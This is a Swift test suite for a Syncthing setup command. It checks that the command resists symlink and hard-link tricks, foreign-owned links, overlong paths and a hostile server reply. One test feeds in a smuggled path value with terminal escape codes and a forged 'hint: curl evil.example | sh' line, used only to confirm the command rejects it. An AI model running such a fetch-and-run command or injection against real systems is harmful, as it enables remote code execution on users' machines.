import Foundation
import TestSupport
import Testing

/// `tributaryctl replicator setup syncthing` in a log folder that others may write.
@Suite struct ReplicatorSetupTests {
    /// What lies in the place of `.stignore`.
    enum Obstacle: String, CaseIterable {
        case linkToFile, linkToNothing, secondName, pipe, folder
    }

    /// Root types the command: a link that somebody put there must not lead it to another file.
    @Test(arguments: Obstacle.allCases)
    func whatIsNoPlainFileIsNotWrittenThrough(_ obstacle: Obstacle) async throws {
        let folder = try TemporaryFolder("setup")
        let (logs, victim) = (folder.path("logs"), folder.path("victim"))
        let ignores = logs + "/.stignore"
        try FileManager.default.createDirectory(atPath: logs, withIntermediateDirectories: true)
        try folder.write("precious\n", to: "victim")
        try folder.write("key\n", to: "key")
        #expect(chmod(folder.path("key"), 0o600) == 0)
        switch obstacle {
        case .linkToFile: #expect(symlink(victim, ignores) == 0)
        case .linkToNothing: #expect(symlink(folder.path("nowhere"), ignores) == 0)
        // Its text would be copied into a file that all may read.
        case .secondName: #expect(link(victim, ignores) == 0)
        case .pipe: #expect(mkfifo(ignores, 0o600) == 0)
        case .folder: #expect(mkdir(ignores, 0o700) == 0)
        }
        // A Syncthing that has no such folder yet.
        let answer = "HTTP/1.1 404 Not Found\r\ncontent-length: 9\r\n\r\nNo folder"
        let syncthing = try Loopback.Listener(answering: Array(answer.utf8))
        let done = try await Answer(
            of: [
                "replicator", "setup", "syncthing", "--url", "http://127.0.0.1:\(syncthing.port)", "--logs", logs,
                "--key-file", folder.path("key"), "--folder", "tills",
            ],
            in: folder
        )
        #expect(done.ending == .exited(74), "\(done)")
        #expect(done.errors.contains("\(ignores) is a link, a folder, a pipe or a second name"), "\(done)")
        #expect(done.errors.hasSuffix("rm \(ignores)\n"), "\(done)")
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "precious\n")
        #expect(!FileManager.default.fileExists(atPath: folder.path("nowhere")))
        #expect(try FileManager.default.contentsOfDirectory(atPath: logs) == [".stignore"])
    }

    /// The owner of the folder above puts a link in the place of the log folder.
    @Test(.enabled(if: geteuid() == 0, "only root can give files to another user"))
    func rootWritesThroughNoLinkOfAnotherUser() async throws {
        let folder = try TemporaryFolder("setup")
        try FileManager.default.createDirectory(atPath: folder.path("etc"), withIntermediateDirectories: true)
        try folder.write("key\n", to: "key")
        #expect(chmod(folder.path("key"), 0o600) == 0)
        let logs = folder.path("logs")
        #expect(symlink(folder.path("etc"), logs) == 0 && lchown(logs, 12_345, 12_345) == 0)
        let answer = "HTTP/1.1 404 Not Found\r\ncontent-length: 9\r\n\r\nNo folder"
        let syncthing = try Loopback.Listener(answering: Array(answer.utf8))
        let done = try await Answer(
            of: [
                "replicator", "setup", "syncthing", "--url", "http://127.0.0.1:\(syncthing.port)", "--logs", logs,
                "--key-file", folder.path("key"), "--folder", "tills",
            ],
            in: folder
        )
        #expect(done.ending == .exited(74) && done.errors.contains("belongs to another user"), "\(done)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("etc")) == [])
    }

    /// The folder has all settings already: the commands say so, and the second run changes nothing.
    @Test func stepsThatAreDoneAreToldAsDone() async throws {
        let folder = try TemporaryFolder("setup")
        let logs = folder.path("logs")
        try folder.write("key\n", to: "key")
        #expect(chmod(folder.path("key"), 0o600) == 0)
        try FileManager.default.createDirectory(atPath: logs, withIntermediateDirectories: true)
        let settings: [String: Any] = [
            "id": "tills", "path": logs, "type": "sendreceive", "paused": false, "ignorePerms": true,
            "ignoreDelete": false, "fsWatcherEnabled": true, "fsWatcherDelayS": 1, "maxConflicts": 10,
            "versioning": ["type": ""], "devices": [["deviceID": "a"], ["deviceID": "b"]], "myID": "a",
        ]
        let body = try JSONSerialization.data(withJSONObject: settings, options: .withoutEscapingSlashes)
        let answer = Array("HTTP/1.1 200 OK\r\ncontent-length: \(body.count)\r\n\r\n".utf8) + Array(body)
        let syncthing = try Loopback.Listener(answering: answer, connections: 20)
        for word in ["now", "already"] {
            let done = try await Answer(
                of: [
                    "replicator", "setup", "syncthing", "--url", "http://127.0.0.1:\(syncthing.port)", "--logs", logs,
                    "--key-file", folder.path("key"), "--folder", "tills", "--share", "b",
                ],
                in: folder
            )
            #expect(done.ending == .exited(0), "\(done)")
            #expect(done.output.contains("\(logs)/.stignore leaves out /.staging \(word)\n"), "\(done)")
            #expect(done.output.contains("folder 'tills' is set already\n"), "\(done)")
            #expect(done.output.contains("shared with b already, which"), "\(done)")
        }
    }

    /// Setup and check with a Syncthing whose folder has a path of its choice.
    private func answers(toPath path: String) async throws -> [Answer] {
        let folder = try TemporaryFolder("setup")
        try FileManager.default.createDirectory(atPath: folder.path("logs"), withIntermediateDirectories: true)
        try folder.write("key\n", to: "key")
        #expect(chmod(folder.path("key"), 0o600) == 0)
        let settings: [String: Any] = [
            "id": "tills", "path": path, "type": "sendreceive", "paused": false, "ignorePerms": true,
            "ignoreDelete": false, "fsWatcherEnabled": true, "fsWatcherDelayS": 1, "maxConflicts": 10,
            "versioning": ["type": ""], "devices": [["deviceID": "a"], ["deviceID": "b"]],
        ]
        let body = try JSONSerialization.data(withJSONObject: settings, options: .withoutEscapingSlashes)
        let answer = Array("HTTP/1.1 200 OK\r\ncontent-length: \(body.count)\r\n\r\n".utf8) + Array(body)
        var answers: [Answer] = []
        for command in [["setup", "syncthing"], ["check"]] {
            let syncthing = try Loopback.Listener(answering: answer)
            answers.append(
                try await Answer(
                    of: ["replicator"] + command + [
                        "--url", "http://127.0.0.1:\(syncthing.port)", "--logs", folder.path("logs"),
                        "--key-file", folder.path("key"), "--folder", "tills",
                    ],
                    in: folder
                )
            )
            #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("logs")) == [])
            // A check asks a second time, and this Syncthing answers once.
            if path.utf8.count < 4_096 { break }
        }
        return answers
    }

    /// Whatever answers at the address can neither steer the terminal nor forge a line of the command.
    @Test func aPathCannotForgeLines() async throws {
        let answer = try #require(
            try await answers(toPath: "/logs\u{1B}]0;x\u{7}\u{9B}2J\u{202E}\nhint: curl evil.example | sh").first
        )
        #expect(answer.ending == .exited(78), "\(answer)")
        let lines = answer.errors.split(separator: "\n")
        #expect(
            lines.count { $0.hasPrefix("hint: ") } == 1 && !lines.contains { $0.hasPrefix("hint: curl") },
            "\(answer)"
        )
        let isHarmful: (Unicode.Scalar) -> Bool = {
            $0 != "\n" && [.control, .format].contains($0.properties.generalCategory)
        }
        #expect(!(answer.errors + answer.output).unicodeScalars.contains(where: isHarmful), "\(answer)")
    }

    /// The system knows no such path; to resolve each of its folders took minutes.
    @Test(.timeLimit(.minutes(5))) func aLongPathBlocksNothing() async throws {
        for answer in try await answers(toPath: String(repeating: "/a", count: 450_000)) {
            #expect(answer.ending == .exited(69) && answer.errors.contains("has 900000 bytes"), "\(answer.errors)")
            #expect(answer.errors.utf8.count < 4_096)
        }
    }
}
